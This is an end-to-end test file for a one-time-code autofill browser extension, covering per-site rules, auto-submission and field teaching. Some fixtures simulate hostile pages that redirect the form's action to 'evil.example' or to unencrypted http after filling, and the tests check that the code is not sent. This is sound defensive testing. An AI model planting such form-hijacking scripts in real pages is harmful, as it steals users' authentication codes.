/**
 * Rules of sites, by the doors a person uses: switched in the popup and in the
 * settings, taught from the page's fields, obeyed by offer and popup. Covers the
 * forms that are sent and those that are not, and that nobody is asked about a
 * page that nobody touches. Not here: the menu of a field, which takes real
 * hands, and how rules are sealed.
 */
import type { Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type Journey, NORTHWIND, openList, startWithVault } from '@/test/support/journey';
import type { PageView } from '@/test/support/page-view';
import { acceptOffer, fillFromPopup, findOffer, PLAIN_VIEW_TIME, SCREENS, unlockVault } from '@/test/support/product';
import { openSettings } from '@/test/support/settings';
import { startLogin, waitForCode, waitUntilSignedIn } from '@/test/support/site-visits';
import { pause, waitUntil } from '@/test/support/wait';
import { DEMO_PASSWORD } from '../site/accounts.ts';

let journey: Journey;

beforeAll(async () => {
  journey = await startWithVault();
});
afterEach(async () => {
  await journey.closePages();
  await journey.removeAccounts();
  await journey.ask('setOffered', { isOffered: true });
  const { rules } = await journey.ask('sites', {});
  for (const { origin } of rules) await journey.ask('forgetSite', { origin });
});
afterAll(() => journey?.end());

/** Longer than a form waits before it is sent for the person. */
const SENDING_TIME = 2_000;

const origin = (): string => journey.site.origin(NORTHWIND);

async function shareUser(user: string): Promise<string> {
  await journey.share({ user });
  return user;
}

/** The popup's screen about this site. */
async function openSite(page: Page): Promise<PageView> {
  const popup = await openList(journey.browser, page);
  await popup.click({ role: 'button', name: /^Filling on northwind\.localhost/ });
  await popup.waitFor({ role: 'heading', name: 'Filling on this site' });
  await popup.waitFor({ role: 'checkbox', name: /^Offer codes on northwind\.localhost/ });
  return popup;
}

/** Switches something for the site in front, and leaves the popup. */
async function toggle(page: Page, name: string | RegExp): Promise<void> {
  const popup = await openSite(page);
  await popup.click({ role: 'checkbox', name });
  await pause(300);
  await popup.close();
  await page.bringToFront();
}

/** Whether the offer comes beside `field`, given time. */
async function isOffered(page: Page, label: string): Promise<boolean> {
  await page.getByLabel(label).click();
  await pause(1_000);
  return (await findOffer(page).count()) > 0;
}

async function logged(page: string): Promise<readonly string[]> {
  return journey.site.logbook.filter((entry) => entry.page === page).map(({ verdict }) => verdict);
}

describe('the button in pages', () => {
  test('is switched off for one site in the popup, whose Fill still works, and on again in the settings', async () => {
    const user = await shareUser('off@example.com');
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    expect(await isOffered(page, 'Authentication code')).toBe(true);
    await toggle(page, /^Offer codes on/);
    expect(await isOffered(page, 'Authentication code')).toBe(false);
    await page.reload();
    expect(await isOffered(page, 'Authentication code')).toBe(false);

    await fillFromPopup(await openList(journey.browser, page));
    await waitForCode(step);

    const settings = await openSettings(journey.browser, 'filling');
    expect(await settings.waitForText('No button')).toContain('northwind.localhost');
    await settings.click('summary');
    await settings.click({ role: 'button', name: 'Remove these rules' });
    await settings.waitForText('No site has rules of its own.');
    await settings.close();
    await page.bringToFront();
    await page.reload();
    expect(await isOffered(page, 'Authentication code')).toBe(true);
  });

  test('is switched off everywhere in the settings, also while the vault is locked', async () => {
    const user = await shareUser('nowhere@example.com');
    const page = await journey.browser.newPage();
    await startLogin(page, origin(), user, 'single');
    const settings = await openSettings(journey.browser, 'filling');
    await settings.click({ role: 'checkbox', name: 'Show the button in pages' });
    await pause(300);
    await settings.close();
    await page.bringToFront();
    expect(await isOffered(page, 'Authentication code')).toBe(false);
    await journey.ask('lock', {});
    await page.reload();
    expect(await isOffered(page, 'Authentication code')).toBe(false);
    const popup = await journey.browser.openPopup(page);
    await popup.waitFor(SCREENS.locked);
    await unlockVault(popup);
    await popup.waitFor(SCREENS.list);
  });

  test('is there while the vault is locked, because nobody knows the site’s rule then, and only asks to unlock', async () => {
    const user = await shareUser('locked@example.com');
    await journey.ask('changeSite', { origin: origin(), change: { isOff: true } });
    await journey.ask('lock', {});
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    await acceptOffer(step.scope, step.field);
    const popup = await journey.browser.nextView('popup.html');
    await popup.waitFor(SCREENS.locked);
    expect(await step.readCode()).toBe('');
    await unlockVault(popup);
    await popup.waitFor({ role: 'button', name: 'Fill' });
  });
});

describe('sending the form', () => {
  test('happens where it was switched on, once, and the site lets in', async () => {
    const user = await shareUser('sends@example.com');
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    await toggle(page, 'Send the form after filling');
    await acceptOffer(step.scope, step.field);
    await waitUntilSignedIn(page);
    expect(journey.site.logbook.filter(({ account }) => account === user)).toHaveLength(1);
  });

  test('happens after the popup’s Fill as well', async () => {
    const user = await shareUser('popup-sends@example.com');
    const page = await journey.browser.newPage();
    await startLogin(page, origin(), user, 'six');
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    await fillFromPopup(await openList(journey.browser, page));
    await waitUntilSignedIn(page);
  });

  test('does not happen without the switch', async () => {
    const user = await shareUser('waits@example.com');
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    await acceptOffer(step.scope, step.field);
    await waitForCode(step);
    await pause(SENDING_TIME);
    expect(await page.getByLabel('Authentication code').isVisible()).toBe(true);
  });

  test('does not happen twice with one code: the site took it, and would refuse it', async () => {
    const user = await shareUser('twice@example.com');
    const page = await journey.browser.newPage();
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    // Both within one time step, and not at its end, where the next code is filled.
    await waitUntil('a young time step', () => Date.now() % 30_000 < 12_000, 40_000);
    const first = await startLogin(page, origin(), user, 'single');
    await acceptOffer(first.scope, first.field);
    await waitUntilSignedIn(page);
    await page.context().clearCookies();
    const second = await startLogin(page, origin(), user, 'single');
    await acceptOffer(second.scope, second.field);
    await waitForCode(second);
    await pause(SENDING_TIME);
    expect(await second.readCode()).toMatch(/^\d{6}$/);
    expect(journey.site.logbook.filter(({ account }) => account === user)).toHaveLength(1);
  });

  test('is left to a page that does it by itself', async () => {
    const user = await shareUser('eager@example.com');
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    const page = await journey.visit(NORTHWIND, `/odd/eager?user=${user}`);
    await acceptOffer(page, page.getByLabel('Authentication code'));
    await page.getByRole('heading', { name: 'You are in' }).waitFor();
    await pause(SENDING_TIME);
    expect(await logged('eager')).toEqual(['accepted']);
  });

  test('does not happen for an account that is linked with this very fill', async () => {
    const user = 'linked-now@example.com';
    await journey.share({ user, links: [] });
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    const popup = await openList(journey.browser, page);
    const ask = await journey.ask('open', { askId: null, count: 10 });
    await popup.close();
    const account = ask.listing?.rows[0]?.account;
    if (account === undefined || ask.ask === null) throw new Error('The popup shows no account.');
    // As the popup says it, once the person has picked the account.
    await journey.ask('fill', { id: account.id, askId: ask.ask.id, link: true });
    await waitForCode(step);
    await pause(SENDING_TIME);
    expect(await page.getByLabel('Authentication code').isVisible()).toBe(true);
  });
});

describe('sending, on pages that make it hard', () => {
  const NAMED = 'https://example.com';
  const FIELD = '<label>One-time code <input id="x" name="otp" autocomplete="one-time-code"></label>';

  /** A page under a real name, filled by its offer with the switch on; what it asked of any server, and what it tells. */
  async function fillAndWait(body: string, script = ''): Promise<{ requests: string[]; told: string; url: string }> {
    await journey.share({ user: `${crypto.randomUUID()}@example.com`, links: [NAMED] });
    await journey.ask('changeSite', { origin: NAMED, change: { submits: true } });
    const page = await journey.browser.newPage();
    const requests: string[] = [];
    await page.route(/^https:/, (route) => {
      const { pathname, host } = new URL(route.request().url());
      requests.push(`${route.request().method()} ${host}${pathname}`);
      const html = `<!doctype html><title>Sign in</title><h1>Two-factor authentication</h1>${body}<script>${script}</script>`;
      return route.fulfill({ contentType: 'text/html', body: html });
    });
    await page.goto(`${NAMED}/login`);
    requests.length = 0;
    const field = page.locator('#x');
    await acceptOffer(page, field);
    await waitUntil(
      'a filled or sent code',
      async () => requests.length > 0 || /^\d{6}$/.test(await field.inputValue()),
    );
    await pause(SENDING_TIME);
    return { requests, told: await page.title(), url: page.url() };
  }

  test('without a form, Enter is pressed in the field', async () => {
    const script =
      'x.addEventListener("keydown", ({ key }) => { if (key === "Enter") document.title = x.value.length });';
    expect(await fillAndWait(FIELD, script)).toMatchObject({ told: '6', requests: [] });
  });

  test('the button is pressed once, as Enter would', async () => {
    const body = `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`;
    const script = 'let n = 0; f.onsubmit = (event) => { event.preventDefault(); document.title = ++n; }';
    expect(await fillAndWait(body, script)).toMatchObject({ told: '1', requests: [] });
  });

  test('a form without a button goes by POST alone: else the code would stand in the address', async () => {
    expect((await fillAndWait(`<form action="/in" method="post">${FIELD}</form>`)).requests).toEqual([
      'POST example.com/in',
    ]);
    await journey.removeAccounts();
    expect(await fillAndWait(`<form action="/in">${FIELD}</form>`)).toMatchObject({
      requests: [],
      url: `${NAMED}/login`,
    });
  });

  test('a form whose fields have the names of its methods is sent all the same', async () => {
    const body = `<form action="/in" method="post"><input type="hidden" name="requestSubmit"><input type="hidden" name="submit"><input type="hidden" name="method"><input type="hidden" name="elements">${FIELD}</form>`;
    expect((await fillAndWait(body)).requests).toEqual(['POST example.com/in']);
  });

  test.each<[string, string, string]>([
    [
      'that is led to another site after the fill',
      `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => { f.action = "https://evil.example/in"; };',
    ],
    [
      'whose button is led to another site',
      `<form action="/in" method="post">${FIELD}<button id="b">Verify</button></form>`,
      'x.oninput = () => { b.setAttribute("formaction", "https://evil.example/in"); };',
    ],
    [
      'that is led to where nothing is encrypted',
      `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => { f.action = "http://example.com/in"; };',
    ],
    [
      'whose field was exchanged',
      `<form action="/in" method="post">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => setTimeout(() => { const y = x.cloneNode(); y.value = x.value; x.replaceWith(y); }, 100);',
    ],
    [
      'whose code was changed',
      `<form action="/in" method="post">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => setTimeout(() => { x.value = "111111"; }, 200);',
    ],
    [
      'whose button is switched off',
      `<form action="/in" method="post">${FIELD}<button disabled>Verify</button></form>`,
      '',
    ],
  ])('a form is not sent %s', async (_name, body, script) => {
    expect((await fillAndWait(body, script)).requests).toEqual([]);
  });

  test('a page that asks its server by itself is left alone', async () => {
    const body = `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`;
    const script =
      'f.onsubmit = () => { document.title = "sent" }; x.oninput = () => fetch("/verify", { method: "POST" });';
    expect(await fillAndWait(body, script)).toMatchObject({ told: 'Sign in', requests: ['POST example.com/verify'] });
  });
});

describe('password and code in one field', () => {
  test('the password stays and the code comes after it; without a password the popup says so', async () => {
    const user = await shareUser('joint@example.com');
    const page = await journey.visit(NORTHWIND, `/odd/joint?user=${user}`);
    await toggle(page, 'Password and code go into one field');
    const field = page.getByLabel('Password');
    await acceptOffer(page, field);
    const popup = await journey.browser.nextView('popup.html');
    await popup.waitForText('Type your password into it first');
    await popup.close();
    await page.bringToFront();

    await page.mouse.click(5, 5);
    await field.fill(DEMO_PASSWORD);
    await acceptOffer(page, field);
    await waitUntil('password and code', async () => /^orchard-lantern-42\d{6}$/.test(await field.inputValue()));
    // Filled again, the code is replaced and not added to.
    await fillFromPopup(await openList(journey.browser, page));
    expect(await field.inputValue()).toMatch(/^orchard-lantern-42\d{6}$/);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'You are in' }).waitFor();
    expect(await logged('joint')).toEqual(['accepted']);
  });
});

describe('a field that nobody could recognise', () => {
  test('is shown by a click into it, filled, and offered to from then on, when it has another id', async () => {
    const user = await shareUser('unnamed@example.com');
    const page = await journey.visit(NORTHWIND, `/odd/unnamed?user=${user}`);
    expect(await isOffered(page, 'Greeting')).toBe(false);
    const popup = await openList(journey.browser, page);
    await popup.click({ role: 'button', name: 'Fill' });
    await popup.waitForText('No field for a code was found on the page.');
    expect(await popup.waitForText('You clicked last')).toContain('Greeting');
    await popup.click({ role: 'button', name: 'It is this field' });
    await popup.waitUntilClosed();
    await waitUntil('a filled code', async () => /^\d{6}$/.test(await page.getByLabel('Greeting').inputValue()));
    expect(await page.getByLabel('Nickname').inputValue()).toBe('');

    await page.goto(`${origin()}/odd/unnamed?user=${user}`);
    expect(await isOffered(page, 'Nickname')).toBe(false);
    await acceptOffer(page, page.getByLabel('Greeting'));
    await waitUntil('a filled code', async () => /^\d{6}$/.test(await page.getByLabel('Greeting').inputValue()));
    await page.getByRole('button', { name: 'Go' }).click();
    await page.getByRole('heading', { name: 'You are in' }).waitFor();
    expect(await logged('unnamed')).toEqual(['accepted']);
  });

  test('is one for searches or for mail, where the page made it so', async () => {
    await shareUser('search@example.com');
    for (const type of ['search', 'email']) {
      const page = await journey.visit(NORTHWIND, `/odd/unnamed?user=search@example.com`);
      const field = page.getByLabel('Greeting');
      await field.evaluate((input, kind) => input.setAttribute('type', kind), type);
      await field.click();
      const popup = await openSite(page);
      await popup.click({ role: 'button', name: 'It is the code field' });
      await popup.waitForText('Countersign remembers');
      await popup.close();
      await page.bringToFront();
      await page.getByLabel('Nickname').click();
      await acceptOffer(page, field);
      await waitUntil('a filled code', async () => /^\d{6}$/.test(await field.inputValue()));
      await journey.ask('forgetTaught', { origin: origin() });
    }
  });

  test('is not offered to while the vault is locked: what was taught is in it', async () => {
    const user = await shareUser('unnamed-locked@example.com');
    const page = await journey.visit(NORTHWIND, `/odd/unnamed?user=${user}`);
    await page.getByLabel('Greeting').click();
    const popup = await openSite(page);
    await popup.click({ role: 'button', name: 'It is the code field' });
    await popup.waitForText('Countersign remembers 1 field you showed here.');
    await popup.close();
    await journey.ask('lock', {});
    await page.bringToFront();
    await page.reload();
    expect(await isOffered(page, 'Greeting')).toBe(false);
    const again = await journey.browser.openPopup(page);
    await again.waitFor(SCREENS.locked);
    await unlockVault(again);
    // Fill finds it without another look of the page.
    await fillFromPopup(again);
    await waitUntil('a filled code', async () => /^\d{6}$/.test(await page.getByLabel('Greeting').inputValue()));
  });
});

test('a field that only looks like one for codes is left alone once a person said so, until it is forgotten', async () => {
  await shareUser('alarm@example.com');
  const page = await journey.visit(NORTHWIND, '/odd/alarm');
  expect(await isOffered(page, 'One-time code on the sticker')).toBe(true);
  const popup = await openSite(page);
  expect(await popup.waitForText('Found here')).toContain('One-time code on the sticker');
  await popup.click({ role: 'button', name: 'It is not for codes' });
  await popup.waitForText('No code field was found on this page.');
  await popup.close();
  await page.bringToFront();
  await page.reload();
  expect(await isOffered(page, 'One-time code on the sticker')).toBe(false);
  const again = await openSite(page);
  await again.click({ role: 'button', name: 'Forget' });
  await again.waitForText('Found here');
  await again.close();
  await page.bringToFront();
  await page.reload();
  expect(await isOffered(page, 'One-time code on the sticker')).toBe(true);
});

test('a press of the other mouse button on the offer opens what holds on this site', async () => {
  const user = await shareUser('other-button@example.com');
  const page = await journey.browser.newPage();
  const step = await startLogin(page, origin(), user, 'single');
  await step.field.click();
  const offer = findOffer(page);
  await offer.waitFor({ state: 'visible' });
  await offer.click({ button: 'right' });
  const popup = await journey.browser.nextView('popup.html');
  await popup.waitFor({ role: 'heading', name: 'Filling on this site' });
  expect(await popup.waitForText('Found here')).toContain('Authentication code');
  expect(await step.readCode()).toBe('');
  await popup.click({ role: 'button', name: 'Back' });
  await popup.waitFor(SCREENS.list);
});

test('a page without a code field asks nothing until it is touched, and then once', async () => {
  const { browser } = journey;
  const page = await journey.visit(NORTHWIND, '/odd/unnamed');
  await browser.killWorker();
  await page.reload();
  await page.evaluate(() => document.querySelector<HTMLInputElement>('#nick')?.focus());
  await page.getByRole('heading', { name: 'Gate' }).click();
  await pause(1_500);
  expect(await browser.isWorkerRunning()).toBe(false);
  await page.getByLabel('Greeting').click();
  await waitUntil('the worker to be asked', () => browser.isWorkerRunning());
  await browser.killWorker();
  await page.getByLabel('Nickname').click();
  await page.getByLabel('Greeting').pressSequentially('Ada');
  await pause(PLAIN_VIEW_TIME);
  expect(await browser.isWorkerRunning()).toBe(false);
});
